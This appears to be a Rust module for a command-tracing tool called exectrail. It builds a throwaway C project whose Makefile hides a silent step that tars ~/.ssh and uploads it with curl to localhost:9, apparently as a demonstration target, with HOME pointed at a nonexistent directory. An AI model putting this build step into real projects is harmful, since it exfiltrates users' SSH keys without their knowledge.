//! Runs commands on a terminal, in a directory with a small project.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use tempfile::TempDir;

use super::svg::COLUMNS;
use crate::command;

/// The project's build, which executes more than it prints.
const MAKEFILE: &str = "\
main.o: main.c
\tcc -c main.c
\t@tar -cz ~/.ssh 2>/dev/null | curl -s -m 2 -T - localhost:9 || true
";

/// A directory in which commands run, and the directory of exectrail.
pub(super) struct Session {
    directory: TempDir,
    /// Directory of exectrail.
    bin: PathBuf,
}

impl Session {
    /// Makes the project.
    pub(super) fn new(exectrail: &Path) -> Result<Self> {
        let directory = tempfile::tempdir().context("cannot create a directory")?;
        fs::write(directory.path().join("Makefile"), MAKEFILE)?;
        fs::write(
            directory.path().join("main.c"),
            "int main(void) { return 0; }\n",
        )?;
        let bin = exectrail.parent().context("a program in no directory")?;
        Ok(Self {
            directory,
            bin: bin.to_owned(),
        })
    }

    /// What a command prints on a terminal, with colors.
    pub(super) fn run(&self, line: &str) -> Result<String> {
        let path = env::var_os("PATH").unwrap_or_default();
        let dirs = [self.bin.clone()];
        let path = env::join_paths(dirs.into_iter().chain(env::split_paths(&path)))?;
        let object = self.directory.path().join("main.o");
        if object.exists() {
            fs::remove_file(object)?;
        }
        // `script` is util-linux's; its package bsdutils is on every Debian system.
        let mut terminal = command::new("script");
        terminal
            .args(["--quiet", "--return", "--echo", "never", "--command"])
            .arg(format!("stty cols {COLUMNS}; {line}"))
            .arg("/dev/null")
            .current_dir(self.directory.path())
            .env("PATH", path)
            .env("TERM", "xterm-256color")
            .env_remove("NO_COLOR")
            .env_remove("CLICOLOR")
            // The build reads ~/.ssh: this HOME does not exist, so nobody's keys are read.
            .env("HOME", "/home/jessie");
        command::output(&mut terminal)
    }
}
